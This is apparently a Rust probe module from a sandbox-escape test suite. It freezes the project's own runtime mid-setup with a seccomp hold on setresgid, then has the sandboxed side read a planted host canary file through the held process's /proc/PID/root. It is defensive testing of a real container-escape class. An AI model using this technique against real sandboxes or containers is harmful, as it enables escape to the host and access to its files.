//! runtime-setup-root: walk into the outside through /proc/PID/root of a runtime process caught
//! while it enters its sandbox's user namespace.
//!
//! Found by an attacker review of the runtime: between unshare(CLONE_NEWUSER) and its switch to
//! inside root, the supervisor of a sandbox with a user namespace was still the host's uid 0,
//! dumpable, with every capability in a namespace the host's uid 0 owns. The ptrace access
//! check then lets in any uid-0 process of the initial user namespace, whatever capabilities it
//! lacks; its /proc/PID/root is the outside's filesystem. The window is some 100 us on a host,
//! so the outside holds it open: the runtime it starts carries a seccomp filter that hands the
//! supervisor's first setresgid (the switch to inside root) to the outside, which never answers
//! until the attempt is over. Every launch of the probe meets the window; none is a race.

use crate::kit::{judge_by_secret, parse_or_report, plant_canary_file, read_step, through_root};
use crate::world::{Planted, World};
use crate::{
    kv, Arrangement, InsideReport, Judgement, Layer, Limits, Probe, ProbeClass, ProbeError,
    ProbeMeta, RunObservation, Steps,
};
use std::os::fd::{AsRawFd, FromRawFd, OwnedFd, RawFd};
use std::path::PathBuf;
use std::process::{Child, Command, Stdio};
use std::time::Duration;

/// How long the outside waits for the runtime it starts to reach the held setresgid.
const FREEZE_WAIT: Duration = Duration::from_secs(30);

static META: ProbeMeta = ProbeMeta {
    id: "runtime-setup-root",
    title: "Walk into the outside through a runtime process setting up its user namespace",
    technique: "A runtime that creates a user namespace runs, for a moment, as the host's uid 0 \
        in a namespace the host's uid 0 owns. Unless it made itself non-dumpable first, the \
        ptrace access check on its /proc/PID files lets in any uid-0 process of the initial \
        user namespace (same uid, a dumpable target, CAP_SYS_PTRACE in the target's namespace \
        as its owner), even one without CAP_SYS_PTRACE: a root payload of another sandbox that \
        can see the runtime's processes. /proc/PID/root of that process is the outside's \
        filesystem. The outside starts `breakout sandbox --profile namespaces` and holds its \
        supervisor in that moment (a seccomp user notification on its first setresgid, never \
        answered until the attempt is over); the inside reads an outside file through the \
        held process's /proc/PID/root.",
    oracle: "The inside reports the secret of a file in the outside's world directory, which no \
        sandbox root contains.",
    layers: &[
        Layer::PidNs,
        Layer::Uid,
        Layer::UserNs,
        Layer::Caps,
        Layer::Seccomp,
        Layer::Landlock,
    ],
    references: &[
        "proc(5): /proc/pid/root; ptrace(2): ptrace access mode checking",
        "CVE-2016-9962 (runc: a dumpable runc init joined the container)",
        "runc nsexec: prctl(PR_SET_DUMPABLE, 0) before it joins or creates a namespace (the CVE-2016-9962 fix)",
    ],
    class: ProbeClass::Plain,
};

pub struct RuntimeSetupRoot;

struct State {
    _runtime: HeldRuntime,
    _file: Planted,
    secret: String,
}

/// A `breakout sandbox` run whose supervisor waits in its setresgid for an answer it gets only
/// on drop (the listener closes, the supervisor is killed, the runtime reaped).
struct HeldRuntime {
    child: Child,
    listener: Option<OwnedFd>,
    supervisor: u32,
}

impl Drop for HeldRuntime {
    fn drop(&mut self) {
        // The runtime sees its supervisor die and cleans up after itself (its cgroup leaf).
        if let Ok(pid) = i32::try_from(self.supervisor) {
            let _ = nix::sys::signal::kill(
                nix::unistd::Pid::from_raw(pid),
                nix::sys::signal::Signal::SIGKILL,
            );
        }
        drop(self.listener.take());
        let _ = self.child.wait();
    }
}

/// The audit architecture of this build's syscall table (linux/audit.h).
#[cfg(target_arch = "x86_64")]
const AUDIT_ARCH: u32 = 0xC000_003E;
#[cfg(target_arch = "aarch64")]
const AUDIT_ARCH: u32 = 0xC000_00B7;

/// setresgid of the native architecture to the listener, everything else allowed.
fn hold_filter() -> [libc::sock_filter; 6] {
    let stmt = |code: u32, k: u32| libc::sock_filter {
        code: code as u16,
        jt: 0,
        jf: 0,
        k,
    };
    let jeq = |k: u32, jf: u8| libc::sock_filter {
        code: (libc::BPF_JMP | libc::BPF_JEQ | libc::BPF_K) as u16,
        jt: 0,
        jf,
        k,
    };
    [
        stmt(libc::BPF_LD | libc::BPF_W | libc::BPF_ABS, 4), // seccomp_data.arch
        jeq(AUDIT_ARCH, 3),
        stmt(libc::BPF_LD | libc::BPF_W | libc::BPF_ABS, 0), // seccomp_data.nr
        jeq(libc::SYS_setresgid as u32, 1),
        stmt(libc::BPF_RET | libc::BPF_K, libc::SECCOMP_RET_USER_NOTIF),
        stmt(libc::BPF_RET | libc::BPF_K, libc::SECCOMP_RET_ALLOW),
    ]
}

/// In the runtime's process before its execve: install [`hold_filter`] with a listener and send
/// the listener over `sock`. Raw system calls only (this is a fork of a multi-threaded
/// process); the filter is inherited by everything the runtime starts.
fn install_hold_filter(sock: RawFd) -> std::io::Result<()> {
    let prog = hold_filter();
    let fprog = libc::sock_fprog {
        len: prog.len() as u16,
        filter: prog.as_ptr() as *mut libc::sock_filter,
    };
    // SAFETY: fprog points at `prog`, alive for the call; the kernel copies the program.
    let fd = unsafe {
        libc::syscall(
            libc::SYS_seccomp,
            libc::SECCOMP_SET_MODE_FILTER,
            libc::SECCOMP_FILTER_FLAG_NEW_LISTENER,
            &fprog as *const libc::sock_fprog,
        )
    };
    if fd < 0 {
        return Err(std::io::Error::last_os_error());
    }
    let fd = fd as RawFd;
    let sent = send_fd(sock, fd);
    // SAFETY: fd is the listener this call just made; the sent copy is the outside's.
    unsafe { libc::close(fd) };
    sent
}

/// One byte and `fd` (SCM_RIGHTS) over `sock`, with a control buffer on the stack.
fn send_fd(sock: RawFd, fd: RawFd) -> std::io::Result<()> {
    let mut byte = [0u8; 1];
    let mut iov = libc::iovec {
        iov_base: byte.as_mut_ptr().cast(),
        iov_len: 1,
    };
    // CMSG_SPACE(4) is 24 bytes on 64-bit Linux; 8-byte aligned as cmsghdr needs.
    let mut control = [0u64; 4];
    // SAFETY: an all-zero msghdr is valid; every pointer set below outlives sendmsg, and
    // CMSG_FIRSTHDR returns the start of `control`, which holds one cmsghdr and an int.
    unsafe {
        let mut msg: libc::msghdr = std::mem::zeroed();
        msg.msg_iov = &mut iov;
        msg.msg_iovlen = 1;
        msg.msg_control = control.as_mut_ptr().cast();
        msg.msg_controllen = libc::CMSG_SPACE(std::mem::size_of::<RawFd>() as u32) as _;
        let cmsg = libc::CMSG_FIRSTHDR(&msg);
        (*cmsg).cmsg_level = libc::SOL_SOCKET;
        (*cmsg).cmsg_type = libc::SCM_RIGHTS;
        (*cmsg).cmsg_len = libc::CMSG_LEN(std::mem::size_of::<RawFd>() as u32) as _;
        std::ptr::write_unaligned(libc::CMSG_DATA(cmsg).cast::<RawFd>(), fd);
        if libc::sendmsg(sock, &msg, 0) < 0 {
            return Err(std::io::Error::last_os_error());
        }
    }
    Ok(())
}

/// The descriptor the runtime's process sent over `sock`.
fn recv_fd(sock: &OwnedFd) -> std::io::Result<OwnedFd> {
    use nix::sys::socket::{recvmsg, ControlMessageOwned, MsgFlags};
    let mut byte = [0u8; 1];
    let mut iov = [std::io::IoSliceMut::new(&mut byte)];
    let mut space = nix::cmsg_space!(RawFd);
    let msg = recvmsg::<()>(
        sock.as_raw_fd(),
        &mut iov,
        Some(&mut space),
        MsgFlags::MSG_CMSG_CLOEXEC,
    )
    .map_err(std::io::Error::from)?;
    for c in msg.cmsgs().map_err(std::io::Error::from)? {
        if let ControlMessageOwned::ScmRights(fds) = c {
            if let Some(fd) = fds.first() {
                // SAFETY: the kernel just installed this descriptor in this process for us.
                return Ok(unsafe { OwnedFd::from_raw_fd(*fd) });
            }
        }
    }
    Err(std::io::Error::new(
        std::io::ErrorKind::InvalidData,
        "no descriptor came with the message",
    ))
}

/// Wait (at most [`FREEZE_WAIT`]) for the held call and return the pid of the process making
/// it, which then waits for an answer that never comes.
fn held_pid(listener: &OwnedFd) -> std::io::Result<u32> {
    use nix::poll::{poll, PollFd, PollFlags, PollTimeout};
    use std::os::fd::AsFd;
    let mut fds = [PollFd::new(listener.as_fd(), PollFlags::POLLIN)];
    let ms = PollTimeout::try_from(FREEZE_WAIT.as_millis() as i32).unwrap_or(PollTimeout::MAX);
    if poll(&mut fds, ms).map_err(std::io::Error::from)? == 0 {
        return Err(std::io::Error::from(std::io::ErrorKind::TimedOut));
    }
    breakout_runtime::seccomp::record::check_kernel().map_err(std::io::Error::other)?;
    let n = breakout_runtime::seccomp::record::receive_notification(listener)
        .map_err(std::io::Error::from)?;
    Ok(n.pid)
}

/// `breakout sandbox --profile namespaces -- /bin/true` of the runtime beside breakout-probe,
/// held in its supervisor's first setresgid.
fn start_held_runtime(world: &World) -> Result<HeldRuntime, ProbeError> {
    use std::os::unix::process::CommandExt;
    let id = META.id;
    let runtime = world.probe_bin().with_file_name("breakout");
    if !runtime.is_file() {
        return Err(ProbeError::unsupported(
            id,
            "no runtime binary (breakout) beside breakout-probe",
        ));
    }
    let (ours, theirs) = nix::sys::socket::socketpair(
        nix::sys::socket::AddressFamily::Unix,
        nix::sys::socket::SockType::Stream,
        None,
        nix::sys::socket::SockFlag::SOCK_CLOEXEC,
    )
    .map_err(|e| ProbeError::arrange(id, "socketpair", e.into()))?;
    let sock = theirs.as_raw_fd();
    let mut cmd = Command::new(&runtime);
    cmd.args(["sandbox", "--profile", "namespaces", "--", "/bin/true"])
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::null());
    // SAFETY: the hook makes raw system calls only and touches no lock or allocator.
    unsafe { cmd.pre_exec(move || install_hold_filter(sock)) };
    let mut child = cmd
        .spawn()
        .map_err(|e| ProbeError::arrange(id, "starting the runtime with the hold filter", e))?;
    drop(theirs);
    let held = recv_fd(&ours).and_then(|listener| Ok((held_pid(&listener)?, listener)));
    match held {
        Ok((supervisor, listener)) => Ok(HeldRuntime {
            child,
            listener: Some(listener),
            supervisor,
        }),
        Err(e) => {
            let _ = child.kill();
            let _ = child.wait();
            Err(ProbeError::arrange(
                id,
                "holding the runtime's supervisor in its setresgid",
                e,
            ))
        }
    }
}

impl Probe for RuntimeSetupRoot {
    fn meta(&self) -> &'static ProbeMeta {
        &META
    }

    fn arrange(&self, world: &World, _limits: &Limits) -> Result<Arrangement, ProbeError> {
        let id = META.id;
        let (file, secret) = plant_canary_file(world, id, "runtime-setup-root-canary")?;
        let runtime = start_held_runtime(world)?;
        Ok(Arrangement::new(
            vec![
                kv("pid", runtime.supervisor),
                kv("path", file.path().display()),
            ],
            State {
                _runtime: runtime,
                _file: file,
                secret,
            },
        ))
    }

    fn attempt(&self, args: &[String]) -> InsideReport {
        let mut steps = Steps::new(META.id);
        if let Some((pid, path)) = parse_or_report(&mut steps, args, |a| {
            Ok((a.get::<u32>("pid")?, PathBuf::from(a.str("path")?)))
        }) {
            read_step(
                &mut steps,
                "read through the held runtime process's root",
                &through_root(pid, &path),
            );
        }
        steps.finish()
    }

    fn judge(&self, _world: &World, arrangement: Arrangement, run: &RunObservation) -> Judgement {
        judge_by_secret(
            &arrangement,
            run,
            META.id,
            |s: &State| &s.secret,
            "the outside file reached through a setting-up runtime's /proc/PID/root",
        )
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn bad_arguments_are_reported() {
        let report = RuntimeSetupRoot.attempt(&["pid=self".into(), "path=/x".into()]);
        assert_eq!(report.steps[0].action, "parse arguments");
        assert!(report.steps[0].data.as_deref().unwrap().contains("pid"));
    }

    /// The filter sends setresgid alone to the listener, on the native architecture only.
    #[test]
    fn only_setresgid_is_held() {
        let f = hold_filter();
        assert_eq!(f[1].k, AUDIT_ARCH);
        assert_eq!(f[3].k, libc::SYS_setresgid as u32);
        assert_eq!(f[4].k, libc::SECCOMP_RET_USER_NOTIF);
        assert_eq!(f[5].k, libc::SECCOMP_RET_ALLOW);
        // A wrong architecture and a wrong number both jump to the allow.
        assert_eq!(1 + 1 + usize::from(f[1].jf), 5);
        assert_eq!(3 + 1 + usize::from(f[3].jf), 5);
    }
}
